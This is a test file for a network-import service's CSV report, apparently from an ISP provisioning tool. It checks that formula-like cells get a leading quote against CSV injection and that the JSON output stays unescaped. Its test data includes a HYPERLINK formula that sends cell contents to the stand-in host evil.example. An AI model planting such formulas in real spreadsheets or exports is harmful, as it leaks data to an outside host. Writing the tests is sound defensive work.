// Review 11 (inputs): the import's CSV report is opened in a spreadsheet, which reads a cell starting
// with = + - @ tab or CR as a formula (OWASP "CSV Injection"). NetBox descriptions, custom fields and
// RADIUS usernames put any text there. Such cells are written with a leading ' (csv-stringify's
// `escape_formulas`); the JSON report keeps the values as they are. Reading that ' back off is
// test/review11/csv-roundtrip.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { parse } from 'csv-parse/sync';
import { fromCsv, toCsv } from '../../services/adoption/report.ts';
import type { ImportReport } from '../../services/adoption/types.ts';
import { startHarness, type Harness } from '../http/support.ts';

const test = suite('review11 (inputs): formulas in the import CSV report');
let h: Harness;

test.before(async () => {
  h = await startHarness();
});
test.after(async () => h.close());

// A file record's names are the API's (no control characters: a 400), so the tab and CR cells reach
// the report from NetBox or RADIUS text only; toCsv is checked with them directly below.
const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+4930123456', '-2+3', '@SUM(A1)'];
const records = hostile.map((v, i) => ({ subscriber_id: v, prefix: `2001:db8:0:${(i + 1) * 100}::/56`, username: v }));

test('POST /import?format=csv: every cell a spreadsheet reads as a formula starts with a single quote', async () => {
  const res = await h.post('import?format=csv', { sources: { file: { records } } });
  assert.is(res.status, 200, res.text);
  const rows = parse(res.text, { columns: true }) as Record<string, string>[];
  assert.equal(
    rows.map((r) => [r.subscriber_id, r.prefix, r.username]),
    hostile.map((v, i) => [`'${v}`, `2001:db8:0:${(i + 1) * 100}::/56`, `'${v}`]),
  );
  for (const r of rows) assert.not.match(r.conflict ?? '', /^[=+\-@\t\r]/, 'a conflict cell starts with its kind');
});

test('POST /import (JSON): the same values, unescaped', async () => {
  const res = await h.post('import', { sources: { file: { records } } });
  assert.equal(res.body.entries.map((e: any) => e.subscriber_id).sort(), [...hostile].sort());
});

test('toCsv: a name starting with tab or CR (NetBox or RADIUS text) starts with a single quote', () => {
  const entry = (v: string) => ({ subscriber_id: v, prefix: '2001:db8::/56', username: v, cpe_id: null, state: 'suspended', conflicts: [] });
  const report = { entries: ['\t=1+1', '\r=1+1'].map(entry) } as unknown as ImportReport;
  const rows = parse(toCsv(report), { columns: true }) as Record<string, string>[];
  assert.equal(rows.map((r) => [r.subscriber_id, r.username]), [["'\t=1+1", "'\t=1+1"], ["'\r=1+1", "'\r=1+1"]]);
});

test('a file record whose subscriber_id holds a tab is refused, naming the field', async () => {
  const res = await h.post('import', { sources: { file: { records: [{ subscriber_id: '\t=1+1', prefix: '2001:db8:0:900::/56' }] } } });
  assert.is(res.status, 400, res.text);
  assert.is(res.body.error.field, 'sources.file.records.0.subscriber_id');
});

test('cells that only contain those characters later, and plain ones, are written as they are', async () => {
  const plain = [{ subscriber_id: 'sub=1', prefix: '2001:db8:0:a00::/56', username: 'a+b@isp' }];
  const res = await h.post('import?format=csv', { sources: { file: { records: plain } } });
  assert.is(res.text.split('\r\n')[1], 'sub=1,2001:db8:0:a00::/56,a+b@isp,,suspended,');
});

test('fromCsv takes off the writer\'s quote and refuses no formula-like cell', () => {
  const text = "subscriber_id,prefix,username\r\n'=a,2001:db8::/56,+4930\r\n";
  assert.equal(fromCsv(text), [{ subscriber_id: '=a', prefix: '2001:db8::/56', username: '+4930' }]);
});

test.run();
